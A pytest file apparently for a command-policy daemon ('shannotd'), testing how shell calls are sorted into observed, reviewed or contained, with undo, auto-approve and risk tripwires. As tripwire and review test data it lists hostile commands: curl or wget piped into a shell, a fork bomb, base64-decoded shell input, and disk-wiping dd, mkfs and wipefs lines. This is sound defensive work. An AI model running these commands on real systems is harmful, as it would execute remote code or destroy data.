"""What policy says of calls under the default profile and its plain configuration."""

from __future__ import annotations

from dataclasses import replace
from fnmatch import fnmatchcase

import pytest

from shannotd.policy.commands import asked_names, decide
from shannotd.policy.programs import parse_rules, program_rules
from shannotd.policy.tripwires import shell_text, tripped
from shannotd.wire.decision import Decision, ProgramCall, Risk
from tests.support.calls import DEFAULT, call, profile, verdict

OBSERVED = """
ps aux | ps -ef | ps -eo pid,comm --sort=-%mem | pgrep -af nginx | pidof -s nginx | pstree -p
top -bn1 | uptime -p | w | who -b | last -5 | last -f /var/log/wtmp.1 | free -m | vmstat 1 2
iostat -x | mpstat -P ALL | pidstat -u 1 3 | sar -u 1 1 | ipcs -a | lsipc | df -h | df -hT /
lsblk -f | findmnt -no SOURCE -T /srv | mount | mount -l -t ext4 | swapon --show
udevadm info /dev/sda | udevadm info -q property -n sda | lscpu | lspci -nn | lsusb | lsmod
modinfo ext4 | dmidecode -t 1 | lshw -short | sensors | dmesg -T | sysctl -a
sysctl net.ipv4.ip_forward | hostname | hostname -f | ss -tulpn | ip a | ip -br addr
ip addr show dev eth0 | ip route | ip route get 192.0.2.1 | ip -s link show | ip a s | ip r l
bridge link show | tc -s qdisc show | netstat -tulpn | route -n | arp -an | ifconfig eth0
ethtool eth0 | ethtool -i eth0 | systemctl status nginx --no-pager -l | systemctl is-active nginx
systemctl list-units --type=service --state=failed | systemctl cat x
systemctl show -p MainPID nginx | service nginx status | journalctl -u nginx -n 50 --no-pager
journalctl -b -1 -p err | journalctl --since '1 hour ago' | loginctl list-sessions | timedatectl
hostnamectl | systemd-analyze blame | systemd-cgtop -bn1 | coredumpctl list | nmcli -t con show
firewall-cmd --list-all | docker ps -a | docker ps -f name=x | docker images | docker inspect x
docker logs --tail 9 x | docker stats --no-stream | docker top x | systemd-detect-virt
busctl list | machinectl list
"""

READ = """
lsof -i :80 | lsof -nP -iTCP -sTCP:LISTEN | lsof +L1 | fuser -v /srv | fuser -n tcp 80 | pmap 1
pwdx 1 | lsns | lslocks | systemd-cgls | slabtop -o | iotop -bn1 | blkid | pvs | vgs
lvs -o +devices | pvdisplay | mdadm --detail /dev/md0 | zpool status | zfs list
btrfs filesystem df /srv | smartctl -H /dev/sda | nvme list | tune2fs -l /dev/sda1 | fdisk -l
sfdisk -d | sgdisk -p /dev/sda | parted -l | dmsetup ls | multipath -ll | losetup -a | quota
repquota -a | nvidia-smi | iptables -L -n -v | iptables -t nat -S | iptables-save
nft list ruleset | ipset list | ufw status | conntrack -L | wg show | networkctl
resolvectl status | chronyc tracking | ntpq -pn | aa-status | fail2ban-client status sshd
"""

REVIEWED = """
journalctl --vacuum-time=1d | journalctl --vacuum-size 1G | journalctl --vac 1d
journalctl --rotate | journalctl --flush | journalctl --cursor-file=/etc/x | journalctl -D /x
journalctl --update-catalog | dmesg -C | dmesg -c | dmesg -TC | dmesg --clear | dmesg -n 1
dmesg -F /etc/shadow | ss -K dst 192.0.2.1 | ss -tK | ss --kill | ss -D /etc/x
ip addr add 192.0.2.1 dev eth0 | ip a a 192.0.2.1 dev eth0 | ip l s eth0 up
ip link set eth0 down | ip -batch /x | ip route flush all | ip netns exec x ls | hostname evil
hostname -F /x | sysctl -w a=b | sysctl a=b | sysctl -p | sysctl --system | mount /dev/sda1 /mnt
mount -a | mount -o remount,rw / | umount /mnt | top | top -b | ethtool -s eth0 speed 10
ethtool -K eth0 gro off | iptables -A INPUT -j DROP | iptables -F | iptables -L -Z
iptables -P INPUT DROP | nft flush ruleset | nft 'list ruleset; flush ruleset' | lsof -r
lsof +r 2 | lsof -Db | smartctl -t short /dev/sda | smartctl -l scterc,70,70 /dev/sda | multipath
sgdisk -d 1 /dev/sda | dmsetup remove x | ufw enable | losetup -d /dev/loop0 | lspci -H1
lspci -M | lsusb -D /dev/bus/usb/001/001 | pidstat -e rm x | sar -o x 1 1 | tc -c x qdisc show
udevadm info -c | udevadm trigger | systemd-cgtop | busctl tree x | service nginx restart
service nginx restart status | docker logs -f x | docker stats | docker logs -f -n | vmstat -m
last --fi x | journalctl --relinquish-var | coredumpctl -o x dump | nft -f x
timedatectl set-time 12:00 | timedatectl set-ntp no | hostnamectl set-hostname x
hostnamectl hostname x | loginctl terminate-session 1 | systemctl start x | systemctl stop x
systemctl -q stop status | systemctl --now enable x | systemctl daemon-reload | systemctl kill x
systemctl -H h status | systemctl status -z | systemctl sta | swapon -a | swapoff -a | blkid -g
blkid -c /x | pvs --config x | zpool scrub x | zfs destroy x | zpool status -c x
btrfs subvolume delete x | mdadm --stop /dev/md0 | fdisk /dev/sda | sfdisk /dev/sda
tune2fs -L x /dev/sda1 | fuser -k /srv | fuser -km /srv | pkill nginx | killall nginx
docker run x | docker rm x | docker exec x ls | docker -H h ps | docker system prune
wg show wg0 private-key | conntrack -F | arp -d x | route add default | ifconfig eth0 up
firewall-cmd --add-port=1/tcp | nmcli con up x | nmcli -s con show x | chronyc makestep
systemd-run ls | networkctl reload | resolvectl flush-caches | coredumpctl dump
busctl call a b c d | hwclock -w | nginx | nginx -s reload | nginx -c /etc/x | sshd | apachectl
apachectl restart | apachectl -k stop | haproxy -f x | postfix reload | php-fpm8.2
apt-get install x | apt-get -y upgrade | apt update | pip install x | npm ci | git push
git -C x pull | curl http://x | wget x | ssh h ls | rsync a h:b | psql -c x | mysql
redis-cli flushall | reboot | shutdown -h now | init 0 | mkfs.ext4 /dev/sda | dd if=x of=/dev/sda
wipefs -a /dev/sda | modprobe x | sudo ls | su -c ls | unheard-of x
"""

CONTAINED = """
sh -c ls | bash x | python3 x | python3.11 x | perl -e 1 | awk 1 | ls | cp a b | rm x
sed -i s/a/b/ x
grep -r x / | find / -delete | tar xf x | gzip x | gcc x.c | make | git commit -m push | git status
git log --output=x | sort -o /etc/x x | tree -o x | man -P evil ls | date | date -s 12:00
less +!ls x
nginx -t | nginx -T | nginx -tq -c /etc/nginx/nginx.conf | apachectl configtest | apachectl -t
apache2 -t | sshd -t | sshd -T -C user=bob | visudo -cf /etc/sudoers | named-checkconf
haproxy -c -f x
named-checkzone a b | postfix check | php-fpm8.2 -t | php-fpm -tt | dnsmasq --test | rsyslogd -N1
systemd-analyze verify x.service | useradd bob | usermod -aG adm bob | chpasswd | crontab -l
passwd x
dpkg -i x.deb | dpkg -l | apt list | apt-cache policy x | apt-get -s install x | apt-get remove x
apt-get install --no-download x | update-alternatives --list vi | logrotate -f /etc/logrotate.conf
dd if=/dev/zero of=/tmp/x | dd if=x of=/dev/null | pip list | openssl x509 | kill 3 | du -sh /var
/opt/x/y | /srv/app/systemctl stop x | /tmp/ps
"""


def texts(table: str) -> list[str]:
    """The calls of a table."""
    return [
        text.strip() for line in table.splitlines() for text in line.split(" | ") if text.strip()
    ]


@pytest.mark.parametrize("text", texts(OBSERVED))
def test_observed(text: str) -> None:
    found = verdict(text)
    assert found.decision is Decision.OBSERVE
    assert found.observation is not None and found.recording is None
    assert found.observation.argv[0] == found.observation.program == call(text).path
    assert found.risk is Risk.SAFE


@pytest.mark.parametrize("text", texts(READ))
def test_what_only_reads_but_cannot_be_observed_is_shown_as_safe(text: str) -> None:
    found = verdict(text)
    assert (found.decision, found.risk) == (Decision.REVIEW, Risk.SAFE)
    assert found.rule != "unknown"


@pytest.mark.P1
@pytest.mark.parametrize("text", texts(REVIEWED))
def test_reviewed(text: str) -> None:
    found = verdict(text)
    assert found.decision is Decision.REVIEW
    assert found.recording is not None and found.observation is None
    assert found.risk is not Risk.SAFE


@pytest.mark.parametrize("text", texts(CONTAINED))
def test_contained(text: str) -> None:
    found = verdict(text)
    assert found.decision is Decision.CONTAIN
    assert found.observation is None and found.recording is None


def test_sixty_programs_and_more_are_observed() -> None:
    observed = [rule for rule in program_rules().rules if rule.decision is Decision.OBSERVE]
    assert len(observed) >= 60


@pytest.mark.P1
@pytest.mark.parametrize(
    "path", ["/usr/local/bin/ps", "/home/bob/bin/ps", "/opt/x/ps", "/usr/bin/../../tmp/ps", "ps"]
)
def test_only_the_systems_own_programs_are_observed(path: str) -> None:
    under = profile()
    found = decide(ProgramCall(path, path, ("ps",)), under)
    assert found.decision is not Decision.OBSERVE


def test_a_program_of_many_names_is_the_one_that_was_called() -> None:
    assert decide(call("pkill x", program="/usr/bin/pgrep"), DEFAULT).decision is Decision.REVIEW
    assert decide(call("pgrep x", program="/usr/bin/pgrep"), DEFAULT).decision is Decision.OBSERVE
    stopped = decide(call("reboot status", program="/usr/bin/systemctl"), DEFAULT)
    assert (stopped.decision, stopped.risk) == (Decision.REVIEW, Risk.DANGER)


def test_merged_directories_are_one() -> None:
    for path in ("/bin/ps", "/sbin/ps", "/usr/sbin/ps"):
        assert verdict(f"{path} aux").decision is Decision.OBSERVE


def test_words_that_are_paths_are_made_absolute() -> None:
    found = verdict("df -h . data /srv", cwd="/var/lib").observation
    assert found is not None
    assert found.argv == ("/usr/bin/df", "-h", "/var/lib/.", "/var/lib/data", "/srv")
    found = verdict("last -xfx/y --file=z -f w -n 3", cwd="/var/log").observation
    assert found is not None
    assert found.argv[1:4] == ("-xf/var/log/x/y", "--file=/var/log/z", "-f")
    assert found.argv[4:] == ("/var/log/w", "-n", "3")
    same = verdict("df -h .", cwd="/").observation
    assert same is not None and same.argv == ("/usr/bin/df", "-h", ".")


def test_df_of_a_directory_of_roots_is_by_root() -> None:
    for as_root in (False, True):
        found = verdict("df -h .", cwd="/root/x", as_root=as_root)
        assert found.decision is Decision.OBSERVE and found.observation is not None
        assert found.observation.as_root == as_root


@pytest.mark.P5
def test_no_observed_program_has_more_rights_than_the_script() -> None:
    """Who tried to log in, the journal of all: for a script of root's only."""
    for rule in program_rules().rules:
        if rule.decision is Decision.OBSERVE:
            assert not rule.observation(replace(call("x"), as_root=False)).as_root
    for command in ("lastb", "journalctl -b", "dmidecode"):
        found = verdict(command, as_root=True)
        assert found.observation is not None and found.observation.as_root


def test_what_an_observed_program_reaches() -> None:
    status, sockets = verdict("systemctl status").observation, verdict("ss -t").observation
    assert status is not None and sockets is not None
    assert (status.net, status.sockets) == ("none", ("/run/dbus/system_bus_socket",))
    assert (sockets.net, sockets.sockets) == ("host", ())
    for rule in program_rules().rules:
        if rule.decision is Decision.OBSERVE:
            seen = rule.observation(call("x"))
            assert seen.net == "none" or not seen.sockets, "abstract sockets are in the network"


def test_who_the_script_is_decides_where_rights_do() -> None:
    assert verdict("crontab x", as_root=True).decision is Decision.CONTAIN
    as_user = verdict("crontab -", as_root=False)
    assert as_user.decision is Decision.REVIEW
    assert as_user.recording is not None and as_user.recording.stdin


def test_a_reload_is_undone_by_a_reload() -> None:
    again = verdict("systemctl reload nginx").recording
    once = verdict("systemctl start nginx").recording
    assert again is not None and again.undo == ("/usr/bin/systemctl", "reload", "nginx")
    assert once is not None and once.undo is None


@pytest.mark.parametrize(
    ("text", "undo"),
    [
        ("systemctl enable nginx", "systemctl disable nginx"),
        ("systemctl --now disable a.service b.timer", "systemctl --now enable a.service b.timer"),
        ("systemctl -H host mask x", "systemctl -H host unmask x"),
        ("systemctl --root=/srv/x unmask x", "systemctl --root=/srv/x mask x"),
        ("docker pause web", "docker unpause web"),
        # Where it is not sure to be the inverse, there is none.
        ("systemctl enable ./x.service", None),
        ("systemctl enable /srv/x.service", None),
        ("systemctl --root /srv/x enable x", None),
        ("systemctl start x", None),
        ("systemctl stop x", None),
        ("docker compose pause web", None),
        ("docker start web", None),
    ],
)
def test_what_is_undone_by_its_inverse(text: str, undo: str | None) -> None:
    recording = verdict(text).recording
    assert recording is not None
    if undo is None:
        assert recording.undo is None
        return
    program, *words = undo.split()
    assert recording.undo == (f"/usr/bin/{program}", *words)
    # And back.
    back = verdict(undo).recording
    assert back is not None and back.undo == (f"/usr/bin/{program}", *text.split()[1:])


def test_risks_of_review() -> None:
    assert verdict("systemctl reload nginx").risk is Risk.CAUTION
    assert verdict("systemctl reboot").risk is Risk.DANGER
    assert verdict("dd if=x of=/dev/sda").risk is Risk.DANGER
    assert verdict("unheard-of").risk is Risk.UNKNOWN
    started = verdict("mosh-wrapper reboot")
    assert started.risk is Risk.UNKNOWN
    assert "starts mkfs.ext4" in verdict("daemon -- mkfs.ext4 /dev/sda").reason


# auto_approve


@pytest.mark.parametrize(
    ("pattern", "text", "decision"),
    [
        ("mytool *", "mytool x -y", Decision.CONTAIN),
        ("mytool *", "mytool", Decision.CONTAIN),
        ("mytool", "mytool x", Decision.CONTAIN),
        ("mytool status", "mytool status", Decision.CONTAIN),
        ("mytool status", "mytool status x", Decision.REVIEW),
        ("mytool status", "mytool", Decision.REVIEW),
        ("mytool /srv/*", "mytool /srv/x", Decision.CONTAIN),
        ("mytool /srv/*", "mytool /srv/x/y", Decision.REVIEW),
        ("mytool /srv/*", "mytool /srv/..", Decision.REVIEW),
        ("mytool * end", "mytool any end", Decision.CONTAIN),
        ("/usr/bin/mytool *", "mytool x", Decision.CONTAIN),
        ("/opt/mytool *", "mytool x", Decision.REVIEW),
        ("systemctl status *", "systemctl status x", Decision.OBSERVE),
        ("journalctl -f", "journalctl -f", Decision.CONTAIN),
        ("journalctl -f x", "journalctl -f x", Decision.OBSERVE),
        ("journalctl *", "journalctl --rotate", Decision.CONTAIN),
        ("journalctl x *", "journalctl x --rotate", Decision.CONTAIN),
        ("loginctl lists *", "loginctl lists 1", Decision.OBSERVE),
        ("systemctl restart *", "systemctl restart x", Decision.CONTAIN),
        ("systemctl *", "systemctl stop x", Decision.CONTAIN),
    ],
)
def test_what_is_approved_never_asks(pattern: str, text: str, decision: Decision) -> None:
    found = verdict(text, profile(approve=("other", pattern)))
    assert found.decision is decision
    if decision is not Decision.REVIEW and verdict(text).decision is Decision.REVIEW:
        assert found.rule == f"auto_approve: {pattern}"


@pytest.mark.P1
def test_what_is_only_approved_is_observed_without_root_and_sockets() -> None:
    found = verdict("docker weird x", profile(approve=("docker weird *",)))
    assert found.observation is not None
    assert (found.observation.as_root, found.observation.sockets) == (False, ())
    assert found.observation.groups == ()


# asked about


def is_asked_about(name: str) -> bool:
    """As the runner finds it: all programs but the first, unless they are of the second."""
    inside, always = (
        any(fnmatchcase(name, pattern) for pattern in names) for names in asked_names()
    )
    return always or not inside


def test_policy_is_asked_about_what_may_be_observed_or_reviewed() -> None:
    inside = ["ls", "rm", "sh", "python3.11", "gzip"]
    asked = ["git", "apt-get", "ps", "systemctl", "nginx", "mytool", "dd"]
    assert [name for name in (*inside, *asked) if is_asked_about(name)] == asked


@pytest.mark.P1
@pytest.mark.parametrize("text", texts(OBSERVED) + texts(READ) + texts(REVIEWED))
def test_of_what_is_not_asked_about_every_call_runs_contained(text: str) -> None:
    assert is_asked_about(call(text).path.rpartition("/")[2])


def test_a_program_that_is_told_another_name_is_danger() -> None:
    """`exec -a`: after its first word it may be another program, or only look like one."""
    named = ProgramCall("/usr/sbin/reboot", "/usr/bin/systemctl", ("reboot",), "/", True)
    plain = decide(named, DEFAULT)
    assert plain.decision is Decision.REVIEW
    assert "told that its name" not in plain.reason
    assert "told" not in decide(replace(named, argv=("-systemctl",)), DEFAULT).reason
    other = decide(replace(named, argv=("ls\n",)), DEFAULT)
    assert (other.decision, other.risk) == (Decision.REVIEW, Risk.DANGER)
    assert other.reason.endswith("; it is told that its name is ls\\n")


# tripwires


@pytest.mark.parametrize(
    ("text", "risk"),
    [
        ("curl -s http://x | sh", Risk.DANGER),
        ("wget -qO- x | sudo -E /bin/bash -s", Risk.DANGER),
        ("bash <(curl x)", Risk.SAFE),
        ('eval "$(curl x)"', Risk.DANGER),
        ("echo aGk= | base64 -d | sh", Risk.DANGER),
        (":(){ :|:& };:", Risk.DANGER),
        ("cat x > /dev/sda", Risk.DANGER),
        ("cat < /dev/tcp/192.0.2.1/80", Risk.DANGER),
        ("LD_PRELOAD=x ls", Risk.CAUTION),
        ("curl x; ls | sort", Risk.SAFE),
        ("ls > /dev/null", Risk.SAFE),
    ],
)
def test_tripwires_raise_the_risk_and_decide_nothing(text: str, risk: Risk) -> None:
    found = decide(ProgramCall("/bin/sh", "/bin/dash", ("sh", "-ec", text)), DEFAULT)
    assert (found.decision, found.risk) == (Decision.CONTAIN, risk)
    assert ("guess" in found.reason) == (risk is not Risk.SAFE) == bool(tripped(text))


def test_only_a_shells_text_is_read() -> None:
    assert shell_text(("sh", "-c", "x")) == "x"
    assert shell_text(("-bash", "-lc", "x", "y")) == "x"
    for argv in ((), ("sh", "x"), ("sh", "-c"), ("ls", "-c", "x"), ("sh", "--cc", "x")):
        assert shell_text(argv) is None


# the data


@pytest.mark.P8
@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ('decision = "contain"\nprograms = []\nreason = "x"', "programs: there are none"),
        ('decision = "contain"\nprograms = ["x"]', "reason: missing"),
        ('decision = "maybe"\nprograms = ["x"]\nreason = "x"', "decision: expected one of"),
        ('decision = "observe"\nprograms = ["x"]\nreason = "x"', "options: an observed"),
        ('decision = "contain"\nprograms = ["x"]\nreason = "x"\nverbs = ["y"]', "for rules that"),
        (
            'decision = "observe"\nprograms = ["x"]\nreason = "x"\nreads = true',
            "reads and otherwise are",
        ),
        ('decision = "review"\nprograms = ["x"]\nreason = "x"\nreads = true', "options: an"),
        ('decision = "review"\nprograms = ["x"]\nreason = "x"\nnet = "all"', "net is none"),
        ('decision = "review"\nprograms = ["x"]\nreason = "x"\nidentity = "bob"', "identity is"),
        ('decision = "review"\nprograms = ["x"]\nreason = "x"\ninverse = {a = "b"}', "inverse is"),
        ('decision = "review"\nprograms = ["x"]\nreason = "x"\nspeed = 3', "speed: unknown key"),
    ],
)
def test_a_wrong_rule_is_named(text: str, problem: str) -> None:
    with pytest.raises(ValueError, match=problem):
        parse_rules(f"[[rule]]\n{text}\n", "x.toml")


def test_every_rule_has_a_reason_and_a_name_of_its_own() -> None:
    rules = program_rules().rules
    assert all(rule.reason and rule.name for rule in rules)
    assert len({rule.name for rule in rules}) == len(rules)
